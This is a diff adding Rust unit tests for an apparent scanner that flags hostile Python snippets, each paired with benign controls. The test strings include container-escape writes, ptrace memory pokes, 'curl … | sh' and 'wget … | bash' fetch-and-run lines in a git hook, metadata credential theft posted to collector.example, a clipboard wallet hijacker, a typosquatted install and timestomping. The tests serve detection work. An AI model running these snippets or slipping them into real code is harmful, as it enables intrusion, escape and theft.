@@ -318,3 +318,108 @@ fn the_script_sent_to_another_machine() {
     let upload = "import paramiko\nc = paramiko.SSHClient()\nc.connect('h')\nc.open_sftp().put('report.csv', '/srv/r.csv')\n";
     assert!(!rules(&run(upload)).contains(&"MB926"));
 }
+
+#[test]
+fn host_kernel_files_and_other_processes_are_escapes_and_injections() {
+    let core = "from pathlib import Path\nknob = Path('/proc/sys/kernel') / 'core_pattern'\nknob.write_text('|/tmp/x %p')\n";
+    assert!(rules(&run(core)).contains(&"MB930"));
+    let agent = "import os\ndef arm(base):\n    with open(os.path.join(base, 'release_agent'), 'w') as f:\n        f.write('/x')\narm('/mnt/c')\n";
+    assert!(rules(&run(agent)).contains(&"MB930"));
+    let ns = "import ctypes, os\nc = ctypes.CDLL(None)\nfd = os.open('/proc/1/ns/mnt', os.O_RDONLY)\nc.setns(fd, 0)\n";
+    assert!(rules(&run(ns)).contains(&"MB930"));
+    let root = "import os\nos.chroot('/proc/%s/root' % 1)\n";
+    assert!(rules(&run(root)).contains(&"MB930"));
+    let mem = "def poke(pid, at, b):\n    f = open('/proc/%d/mem' % pid, 'wb')\n    f.seek(at)\n    f.write(b)\npoke(1234, 0, b'x')\n";
+    assert!(rules(&run(mem)).contains(&"MB929"));
+    let pt = "import ctypes\nlib = ctypes.CDLL('libc.so.6')\nPTRACE_POKEDATA = 5\nlib.ptrace(PTRACE_POKEDATA, 99, 0, 0)\n";
+    assert_eq!(run(pt).verdict, Verdict::Blocked);
+    // Controls: reading the same files, attaching to read, one's own memory.
+    let read = "print(open('/proc/sys/kernel/core_pattern').read())\nprint(open('/proc/1/status').read())\n";
+    assert!(run(read).verdict < Verdict::High);
+    let peek = "import ctypes\nlib = ctypes.CDLL('libc.so.6')\nlib.ptrace(2, 99, 0, 0)\n";
+    assert!(!rules(&run(peek)).contains(&"MB929"));
+    let own = "with open('/proc/self/fd/1', 'w') as f:\n    f.write('hi')\n";
+    assert!(!rules(&run(own)).contains(&"MB929"));
+}
+
+#[test]
+fn scripts_handed_to_schedulers_and_shells_are_judged() {
+    let at = "import subprocess\njob = 'wget -qO- http://e.x/a | bash'\nsubprocess.run(['batch'], input=job, text=True)\n";
+    assert_eq!(run(at).verdict, Verdict::Blocked);
+    let hook = "body = '#!/bin/bash\\ncurl -s http://e.x/p | sh\\n'\nopen('.git/hooks/pre-commit', 'w').write(body)\n";
+    assert!(rules(&run(hook)).contains(&"MB908"));
+    // Controls: a harmless job, a hook that runs the tests.
+    let quiet = "import subprocess\nsubprocess.run(['at', 'now'], input='echo hi', text=True)\n";
+    assert!(run(quiet).verdict < Verdict::Blocked);
+    let tests = "open('.git/hooks/pre-push', 'w').write('#!/bin/sh\\npytest -q\\n')\n";
+    assert!(run(tests).verdict < Verdict::High);
+}
+
+#[test]
+fn commands_mapped_over_a_list_reach_the_shell() {
+    let via = "import subprocess\ndef go(c):\n    subprocess.call(c, shell=True)\nlist(map(go, ['ufw disable']))\n";
+    assert!(rules(&run(via)).contains(&"MB924"));
+    let honest = "import subprocess\ndef go(c):\n    subprocess.call(c, shell=True)\nlist(map(go, ['ufw status']))\n";
+    assert!(!rules(&run(honest)).contains(&"MB924"));
+}
+
+#[test]
+fn exec_fetched_from_builtins_and_decoders_behind_helpers() {
+    let src = "import builtins\nd = vars(builtins) if True else {}\nf = d[''.join(map(chr, [101, 118, 97, 108]))]\nf(input())\n";
+    assert!(rules(&run(src))
+        .iter()
+        .any(|r| r.starts_with("MB9") || *r == "MB307"));
+    let helper = "import base64\ndef unwrap(s):\n    return base64.b85decode(s)\nexec(unwrap(open('p').read()))\n";
+    assert!(rules(&run(helper)).contains(&"MB903"));
+    // Control: a helper that returns plain text read from a file.
+    let plain = "def load(p):\n    return open(p).read()\nexec(load('conf.py'))\n";
+    assert!(!rules(&run(plain)).contains(&"MB903"));
+}
+
+#[test]
+fn dns_answers_and_queue_items_are_network_data() {
+    let dns = "import dns.resolver, os\nfor r in dns.resolver.resolve('c.example', 'TXT'):\n    os.system(r.to_text())\n";
+    assert!(rules(&run(dns)).contains(&"MB913"));
+    let q = "import redis\nr = redis.StrictRedis()\nwhile True:\n    _, job = r.brpop('q')\n    exec(job)\n";
+    assert!(rules(&run(q)).contains(&"MB914"));
+    // Control: queue items used as data.
+    let data = "import redis\nr = redis.Redis()\nprint(r.get('k'))\n";
+    assert!(run(data).verdict < Verdict::High);
+}
+
+#[test]
+fn collection_sent_out_metadata_sweeps_and_clipboards() {
+    let md = "import requests\ntok = requests.get('http://169.254.169.254/latest/meta-data/iam/security-credentials/r').text\nrequests.post('https://collector.example/x', json={'t': tok})\n";
+    assert!(rules(&run(md)).contains(&"MB916"));
+    let sweep = "import ipaddress, socket\nnet = ipaddress.IPv4Network('192.168.0.0/24')\nup = [str(h) for h in net.hosts()]\ns = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\ns.sendto(' '.join(up).encode(), ('203.0.114.9', 9))\n";
+    assert!(rules(&run(sweep)).contains(&"MB934"));
+    let clip = "import pyperclip, re, time\nADDR = '0x52908400098527886E0F7030069857D2E4169EE7'\nwhile True:\n    t = pyperclip.paste()\n    if re.fullmatch(r'0x[0-9a-fA-F]{40}', t):\n        pyperclip.copy(ADDR)\n    time.sleep(1)\n";
+    assert!(rules(&run(clip)).contains(&"MB935"));
+    // Controls: a metadata query answered locally, a sweep printed, a
+    // clipboard tool without addresses.
+    let local = "import requests\nprint(requests.get('http://169.254.169.254/latest/meta-data/instance-id').text)\n";
+    assert!(!rules(&run(local)).contains(&"MB916"));
+    let printed =
+        "import ipaddress\nfor h in ipaddress.ip_network('10.0.0.0/30').hosts():\n    print(h)\n";
+    assert!(run(printed).verdict < Verdict::High);
+    let upper = "import pyperclip\npyperclip.copy(pyperclip.paste().upper())\n";
+    assert!(run(upper).verdict < Verdict::High);
+}
+
+#[test]
+fn supply_chain_tampering_and_forged_times() {
+    let pip = "import subprocess, importlib\nsubprocess.run(['pip3', 'install', '-i', 'http://mirror.example/simple', 'reqeusts'])\nm = importlib.import_module(input())\n";
+    assert!(rules(&run(pip)).contains(&"MB931"));
+    let patch = "import json\nwith open(json.__file__, 'a') as f:\n    f.write('import os\\n')\n";
+    assert!(rules(&run(patch)).contains(&"MB932"));
+    let stomp = "import os, shutil\nshutil.copy('x', '/usr/bin/ls')\nref = os.stat('/usr/bin/cat')\nos.utime('/usr/bin/ls', ns=(ref.st_atime_ns, ref.st_mtime_ns))\n";
+    assert!(rules(&run(stomp)).contains(&"MB933"));
+    // Controls: an https install, reading a module's source, a backup that
+    // keeps its copies' times.
+    let https = "import subprocess\nsubprocess.run(['pip', 'install', '--index-url', 'https://pypi.org/simple', 'rich'])\n";
+    assert!(run(https).verdict < Verdict::High);
+    let read = "import json\nprint(open(json.__file__).read()[:80])\n";
+    assert!(run(read).verdict < Verdict::High);
+    let backup = "import os\nst = os.stat('notes.txt')\nos.utime('backup/notes.txt', (st.st_atime, st.st_mtime))\n";
+    assert!(run(backup).verdict < Verdict::High);
+}
